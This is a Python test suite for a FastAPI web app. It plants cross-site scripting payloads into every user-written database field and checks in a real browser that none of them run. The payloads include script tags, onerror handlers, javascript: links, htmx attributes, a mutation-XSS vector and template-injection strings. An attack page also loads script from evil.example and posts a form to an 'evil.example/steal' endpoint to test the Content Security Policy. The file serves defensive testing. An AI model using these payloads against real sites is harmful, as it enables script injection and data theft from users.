"""Words that are markup, in every field that keeps words, on every page, as everybody, in a real browser: words they
stay.

The fields are those of the database: a new one fails here until somebody says whether people write in it.
"""

import json
import shutil

import pytest
from fastapi import Request
from fastapi.responses import HTMLResponse, Response
from sqlalchemy import JSON, String, create_engine, select, update
from starlette.routing import Route

from app.accounts.models import Mark, OneTimeLink, Passkey, Team
from app.exports.models import Share
from app.kit import clock
from app.kit.db import Session, metadata
from app.kit.web import static_url
from app.voice import imports
from tests.attacks.crawl import crawl
from tests.browser.live import served

CANARY = "canary7"
PAYLOADS = {  # the first stands at the beginning, where an address that is made of words would run it
    "an address that runs": f"javascript:window.{CANARY}=11//",
    "markup": f'<script>window.{CANARY}=1</script><img src="/{CANARY}.png" onerror="window.{CANARY}=2" data-{CANARY}>',
    "out of an attribute": f'" autofocus onfocus="window.{CANARY}=3" data-{CANARY}="\' onmouseover=\'window.{CANARY}=4',
    "htmx": f'<p hx-get="/{CANARY}" hx-trigger="load" data-{CANARY} hx-on:load="window.{CANARY}=5">p</p>',
    "a link that runs": f'<a href="javascript:window.{CANARY}=6" data-{CANARY}>javascript:window.{CANARY}=6</a>',
    "a frame": f'<iframe srcdoc="<script>parent.{CANARY}=7</script>" data-{CANARY}></iframe>',
    "svg": f'<svg data-{CANARY} onload="window.{CANARY}=8"><script>window.{CANARY}=9</script></svg>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.'
                f'{CANARY}=10&gt;" data-{CANARY}>',
    "a template": "{{7*191}} ${7*191} <%= 7*191 %> {% if 1 %}&lt;b&gt;{% endif %}",
}
ALL = " ".join(PAYLOADS.values())
# What people write or send, by the name of its column.
WORDS = frozenset(
    "name words why note title summary issue goal mood_words access_words department phase organisation source owner "
    "segment touchpoint_said persona_said answer_why rules unknowns leave_no_trace file_name label browser theme team "
    "by_role whom dated why_words columns sample".split())
# Entries of the log: JSON with words in it.
LINES = frozenset({"line"})
# Codes, ids, numbers of something and digests: what is not looked up in a list of ours is never shown.
CODES = frozenset(
    "about accepted access address answer answered_by app args asked_by audience before by cell challenge channel "
    "closed_channels config contributions counts course day deed dev digest digital_access email entry error "
    "external_id fact facts felt fingerprint first_hash folded guess handler help hints hist how id import_id iss "
    "journey_id journeys key kind last_hash loads look made_by mailed mapping measure method mode next noun of outcome "
    "outcomes par part password_hash path persona persona_id phone photo place place_id pronoun public_key purpose "
    "question ref review role rule said scale scope sha256 shoes snags source_id stages state storage sub team_id "
    "teams time_zone told_on touchpoint touchpoint_id trouble user_id value visit walk walk_id walker_id walkers "
    "weight_set".split())
# Reasons the house itself gives, by code.
OURS = {("photo", "why"), ("entry", "why"), ("sweep", "why")}


def _texts():
    for table in metadata.sorted_tables:
        for column in table.columns:
            kind = getattr(column.type, "impl_instance", column.type)
            if isinstance(kind, (String, JSON)) and not column.foreign_keys:
                yield table, column


def test_of_every_field_it_is_known_whether_people_write_in_it():
    names = {column.name for _, column in _texts()}
    assert not WORDS & CODES
    assert names - WORDS - LINES - CODES == set(), "say in test_injection.py whether people write in these"


def _planted(value, mark: int):
    """The value with its words made into every payload; unlike any other, where only one may have a name."""
    if isinstance(value, list):
        return [_planted(one, mark) for one in value]
    return f"{ALL} {mark}" if isinstance(value, str) else value


def _line(line: str) -> str:
    """An entry of the log with every word of it made into payloads."""
    said = json.loads(line)
    body = said.get("b") or {}
    for name, value in body.items():
        if isinstance(value, str) and name in ("words", "caption", "name", "reason", "said", "text", "note"):
            body[name] = ALL
    return json.dumps(said)


def plant(path) -> None:
    """Put every payload into every field of every row that keeps words."""
    engine = create_engine(f"sqlite:///{path}")
    mark = 0
    with engine.begin() as connection:
        for table, column in _texts():
            if column.name not in WORDS | LINES or (table.name, column.name) in OURS:
                continue
            keys = list(table.primary_key.columns)
            for row in connection.execute(select(column, *keys)).all():
                if row[0] is None:
                    continue
                mark += 1
                said = _line(row[0]) if column.name in LINES else _planted(row[0], mark)
                connection.execute(update(table).values({column: said}).where(
                    *(key == value for key, value in zip(keys, row[1:], strict=True))))
    engine.dispose()


def _furnish(app, cast) -> list[str]:
    """What the demo world has none of; where to look at it."""
    now = clock.now()
    with app.state.database.write() as session:
        session.add_all([
            Team(id="t-x", name=ALL, made_at=now), Mark(id="organisation", value=ALL),
            OneTimeLink(id="i-x", purpose="invite", role="walker", note=ALL, made_at=now,
                        expires_at=clock.now().replace(year=2099)),
            Share(id="s-x", digest="d", key="k", path="/insights/heat", title=ALL, made_by=cast["una"].id, made_at=now,
                  expires_at=now.replace(year=2099)),
            Passkey(id="k-x", user_id=cast["una"].id, name=ALL, public_key="", made_at=now)])
        table = f'"{ALL.replace(chr(34), chr(34) * 2)}",When\n"{ALL.replace(chr(34), chr(34) * 2)}",2026-01-01\n'
        brought = imports.begin(session, app.state.blobs, ALL, f"{ALL}.csv".replace("/", ""), table.encode(),
                                cast["una"].id)
        _name_the_cast(session, cast)
    return ["/teams/t-x", f"/voice/imports/{brought.id}", "/people", "/shares", "/account"]


def _name_the_cast(session: Session, cast) -> None:
    for who in cast.values():
        session.merge(who).name = ALL


class Looker:
    """A browser that notes what a page does that it should not."""

    def __init__(self, live, chromium, who: str):
        self.live, self.wrong = live, []
        self.context = live.signed_in(chromium, who)
        self.context.add_init_script("window.__said = []; addEventListener('securitypolicyviolation', one => "
                                     "window.__said.push(one.violatedDirective + ' ' + one.blockedURI))")
        self.page = self.context.new_page()
        self.page.on("request", self._asked)
        self.page.on("dialog", lambda one: (self.wrong.append(f"dialog {one.message}"), one.dismiss()))

    def _asked(self, request) -> None:
        if not request.url.startswith((self.live.url, "blob:", "data:")) or CANARY in request.url.partition("?")[0]:
            self.wrong.append(f"asked for {request.url[:200]}")

    def look(self, address: str) -> None:
        """Open a page and let what it fetches by itself arrive."""
        self.page.goto(self.live.url + address, wait_until="load")
        self.page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))")
        said = self.page.evaluate(f"""() => ({{
            ran: window.{CANARY}, csp: window.__said, made: [...document.querySelectorAll(
                '[data-{CANARY}], [hx-get*={CANARY}], [onerror], [onload], [onfocus], iframe[srcdoc], '
                + 'a[href^="javascript:"], math, script:not([src])')].map(one => one.outerHTML.slice(0, 120)),
            worked: document.body.innerText.includes('1337')}})""")
        if said["ran"] is not None or said["csp"] or said["made"] or said["worked"]:
            self.wrong.append(f"{address}: {said}")


@pytest.fixture(scope="module")
def planted(tmp_path_factory, demo_folder):
    folder = tmp_path_factory.mktemp("planted")
    shutil.copytree(demo_folder / "blobs", folder / "blobs")
    source = tmp_path_factory.mktemp("source") / "shoe.db"
    shutil.copy(demo_folder / "shoe.db", source)
    plant(source)
    with served(folder, source, worker=False) as live:
        live.pages = _pages(live, "una", _furnish(live.app, live.cast))
        yield live


def _pages(live, who: str, begin: list[str]) -> list[str]:
    """Addresses of the pages they find, an example of each route."""
    import httpx2
    cookies = {one["name"]: one["value"] for one in live.cookies(who)}
    with httpx2.Client(base_url=live.url, cookies=cookies, timeout=60) as client:
        found = crawl(client, begin=("/", *begin), each=1)
        texts = [address for addresses in found.pages.values() for address in addresses]
    return [address for address in texts if not address.startswith(("/exports", "/api", "/photos"))
            and "." not in address.partition("?")[0]]


def test_words_stay_words_on_every_page_an_admin_finds(planted, chromium):
    looker = Looker(planted, chromium, "una")
    assert len(planted.pages) > 55
    for address in planted.pages:
        looker.look(address)
    shown = looker.page.goto(f"{planted.url}/people").text()
    assert "&lt;script&gt;window.canary7" in shown, "nothing was planted"
    looker.context.close()
    assert looker.wrong == []


@pytest.mark.parametrize(("who", "nth"), [("mo", 0), ("vi", 3), ("ada", 6)])
def test_and_for_everybody_else(planted, chromium, who, nth):
    """Pages they share with an admin differ by what they may do, so each of them looks at some of these."""
    looker = Looker(planted, chromium, who)
    for address in ["/", "/walks", *planted.pages[nth::9], "/capture"]:
        looker.look(address)
    looker.context.close()
    assert looker.wrong == []


ATTACKS = """
<script>window.inline = 1</script>
<img src="/nothing-here.png" onerror="window.handler = 1">
<script src="/upload/evil.js"></script>
<script src="https://evil.example/evil.js"></script>
<a id="runs" href="javascript:window.link = 1">link</a>
<p hx-get="/attack/asked" hx-trigger="load">injected hx-get</p>
<p hx-on:htmx:load="window.hxon = 1" hx-on:click="window.hxon = 1" id="clicked">injected hx-on</p>
<iframe srcdoc="<script>parent.frame = 1</script>"></iframe>
<object data="https://evil.example/x"></object><base href="https://evil.example/">
<form id="away" action="https://evil.example/steal" method="post"><input name="a" value="b"></form>
<style>body { background: url(https://evil.example/leak) }</style>
<div id="there" hx-get="/attack/fragment" hx-trigger="load" hx-nonce="NONCE">ours</div>
"""
FRAGMENT = """<p id="arrived">fragment</p><script>window.fragment = 1</script>
<img src="/no.png" onerror="window.fragment = 2"><p hx-get="/attack/asked" hx-trigger="load">in a fragment</p>"""

# As a script of ours would that had been talked into it; the debugger's own evaluation is above the policy.
TRIES = """const tries = async () => {
    const out = {}, all = {
        eval: () => eval('window.evaluated = 1'), make: () => new Function('window.made = 1')(),
        markup: () => { document.body.innerHTML = '<b>x</b>' }, later: () => setTimeout('window.later = 1', 0),
        source: () => { document.createElement('script').src = 'https://evil.example/x.js' } };
    for (const [name, does] of Object.entries(all)) {
        try { does(); out[name] = 'ran' } catch (no) { out[name] = no.name } }
    out.fetch = await fetch('https://evil.example/').then(() => 'ran', no => no.name);
    await new Promise(done => setTimeout(done, 50));
    return {...out, base: document.baseURI} }
const RAN = ['inline', 'handler', 'link', 'hxon', 'frame', 'fragment', 'evaluated', 'made', 'later']
window.ran = () => RAN.filter(name => window[name] !== undefined && !(window[name] instanceof Window))
addEventListener('load', () => { window.tried = tries() })"""

# The browser judges a form's address after `submit` returned, so its word is waited for.
SENT_AWAY = """Promise.race([new Promise(done => setTimeout(done, 20000)), new Promise(done => {
    addEventListener('securitypolicyviolation', told => told.effectiveDirective === 'form-action' && done())
    document.querySelector('#away').submit() })])"""


def _mount(app, asked: list) -> None:
    """The attack page and what it would reach, before every other route."""
    async def attack(request: Request) -> HTMLResponse:
        nonce = request.state.nonce
        return HTMLResponse(f"""<!doctype html><html lang="en"><head><title>x</title><meta name="htmx-config"
            content='extensions:"hx-csp", history:"reload"'>
            <script nonce="{nonce}" src="{static_url("js/htmx-gated.js")}" defer></script>
            <script nonce="{nonce}" src="/attack/try.js" defer></script></head>
            <body>{ATTACKS.replace("NONCE", nonce)}</body>""")

    async def fragment(request: Request) -> HTMLResponse:
        return HTMLResponse(FRAGMENT)

    async def tries(request: Request) -> Response:
        return Response(TRIES, media_type="text/javascript")

    async def reached(request: Request) -> HTMLResponse:
        asked.append(str(request.url))
        return HTMLResponse("")
    app.router.routes[0:0] = [Route("/attack", attack), Route("/attack/fragment", fragment),
                              Route("/attack/try.js", tries), Route("/attack/asked", reached),
                              Route("/upload/evil.js", reached)]


def test_an_attack_page_does_nothing_under_the_policy_that_is_served(planted, chromium):
    """Markup straight into a page of ours, as if a template had failed: the policy is the second wall."""
    asked = []
    _mount(planted.app, asked)
    looker = Looker(planted, chromium, "una")
    page = looker.page
    page.goto(f"{planted.url}/attack", wait_until="load")
    page.wait_for_selector("#arrived", state="attached")
    assert page.locator("[hx-get*=asked], [hx-on\\:click]").count() == 0, "the gate takes out what has no nonce of ours"
    page.evaluate("tried")
    page.click("#clicked")
    page.evaluate("document.querySelector('#runs').click()")
    page.evaluate(SENT_AWAY)
    tried = page.evaluate("tried.then(told => ({...told, ran: ran(), said: window.__said}))")
    looker.context.close()
    assert tried["ran"] == [] and asked == []
    assert "ran" not in [tried[name] for name in ("eval", "make", "markup", "source", "fetch")], tried
    assert tried["base"].startswith(planted.url)
    blocked = " ".join(tried["said"])
    for directive in ("script-src", "connect-src", "style-src", "object-src", "base-uri", "form-action",
                      "require-trusted-types-for"):
        assert directive in blocked, f"{directive} stopped nothing: {tried['said']}"
